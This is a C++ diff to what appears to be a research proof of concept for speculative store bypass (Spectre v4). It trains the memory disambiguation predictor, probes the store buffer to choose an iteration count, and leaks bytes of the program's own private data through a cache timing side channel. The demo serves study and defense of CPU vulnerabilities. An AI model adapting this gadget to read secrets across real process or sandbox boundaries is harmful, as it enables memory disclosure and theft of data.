@@ -9,35 +9,40 @@
 
 // TODO(asteinha): Deflake on ARM.
 
+#include <algorithm>
 #include <array>
 #include <cstring>
 #include <iostream>
+#include <memory>
 
 #include "cache_sidechannel.h"
 #include "instr.h"
 #include "local_content.h"
+#include "store_buffer_probe.h"
 #include "utils.h"
 
-constexpr size_t kArrayLength = 64;
+// Upper bound for the iterations of the gadget loop. The actual number comes
+// from ProbeStoreBuffer.
+constexpr size_t kMaxIterations = 128;
 
 // Leaks the byte that is physically located at &text[0] + offset, without ever
 // loading it. In the abstract machine, and in the code executed by the CPU,
 // this function does not load any memory except for what is in the bounds
 // of `text`, and local auxiliary data.
 //
-// Instead, the leak is performed by accessing out-of-bounds during speculative
-// execution, bypassing the bounds check by training the branch predictor to
-// think that the value will be in-range.
-static char LeakByte(const char *data, size_t offset) {
+// Instead, the leak is performed by a load speculatively bypassing an older
+// store whose address is not known yet. The first `iterations - 1` stores of
+// the loop go elsewhere and train the memory disambiguation predictor to let
+// the load run ahead; the last one overwrites the offset the load reads, too
+// late.
+static char LeakByte(const char *data, size_t offset, size_t iterations) {
   CacheSideChannel sidechannel;
   const std::array<BigByte, 256> &oracle = sidechannel.GetOracle();
-  std::unique_ptr<std::array<size_t *, kArrayLength>> array_of_pointers =
-      std::unique_ptr<std::array<size_t *, kArrayLength>>(
-          new std::array<size_t *, kArrayLength>);
+  std::unique_ptr<std::array<SlowPointer, kMaxIterations>> slots(
+      new std::array<SlowPointer, kMaxIterations>);
+  const size_t local_pointer_index = iterations - 1;
 
   for (int run = 0;; ++run) {
-    sidechannel.FlushOracle();
-
     // We pick a different offset every time so that it's guaranteed that the
     // value of the in-bounds access is usually different from the secret value
     // we want to leak via out-of-bounds speculative access.
@@ -47,18 +52,21 @@ static char LeakByte(const char *data, size_t offset) {
     // accessing the oracle.
     size_t junk, local_offset;
 
-    // Array of pointers initialized so that each array item points initially to
-    // the junk value.
-    for (auto &pointer : *array_of_pointers) {
-      pointer = &junk;
+    // All pointers point to the junk value except the last one, which points
+    // to the local offset value.
+    for (size_t i = 0; i < local_pointer_index; ++i) {
+      (*slots)[i].pointer = &junk;
     }
+    (*slots)[local_pointer_index].pointer = &local_offset;
 
-    // One of the pointers is changed so that it points to the local offset
-    // value.
-    size_t local_pointer_index = run % kArrayLength;
-    (*array_of_pointers)[local_pointer_index] = &local_offset;
+    // We flush all pointers, so that every store waits for its address. The
+    // flushes are batched and share the barrier of FlushOracle.
+    for (size_t i = 0; i < iterations; ++i) {
+      FlushDataCacheLineNoBarrier(&(*slots)[i].pointer);
+    }
+    sidechannel.FlushOracle();
 
-    for (size_t i = 0; i <= local_pointer_index; ++i) {
+    for (size_t i = 0; i < iterations; ++i) {
       // This is the same as:
       // local_offset = (i == local_pointer_index) ? offset : safe_offset;
       // Only when i is at the local_pointer_offset it assigns the unsafe
@@ -67,14 +75,10 @@ static char LeakByte(const char *data, size_t offset) {
           offset + (safe_offset - offset) * static_cast<bool>(
               i - local_pointer_index);
 
-      // We always flush the pointer, so that its access is slower.
-      FlushDataCacheLine(&(*array_of_pointers)[i]);
-      FlushDataCacheLine(array_of_pointers.get());
-
       // When i is at the local_pointer_index, we slowly copy safe_offset into
       // the local_offset. Otherwise we just copy the safe_offset to junk. After
       // this operation, the local_offset is always equal to the safe_offset.
-      (*array_of_pointers)[i][0] = safe_offset;
+      *(*slots)[i].pointer = safe_offset;
 
       // Speculative fetch at the local_offset. Architecturally it fetches
       // always at the safe_offset, though speculatively it prefetches the
@@ -97,6 +101,11 @@ static char LeakByte(const char *data, size_t offset) {
 }
 
 int main() {
+  StoreBufferBehavior behavior = ProbeStoreBuffer();
+  PrintStoreBufferBehavior(behavior, std::cout);
+  size_t iterations = std::min(StoreBypassIterations(behavior), kMaxIterations);
+  std::cout << "Training with " << iterations - 1 << " stores" << std::endl;
+
   std::cout << "Leaking the string: ";
   std::cout.flush();
   const size_t private_offset = private_data - public_data;
@@ -104,7 +113,7 @@ int main() {
     // On at least some machines, this will print the i'th byte from
     // private_data, despite the only actually-executed memory accesses being
     // to valid bytes in public_data.
-    std::cout << LeakByte(public_data, private_offset + i);
+    std::cout << LeakByte(public_data, private_offset + i, iterations);
     std::cout.flush();
   }
   std::cout << "\nDone!\n";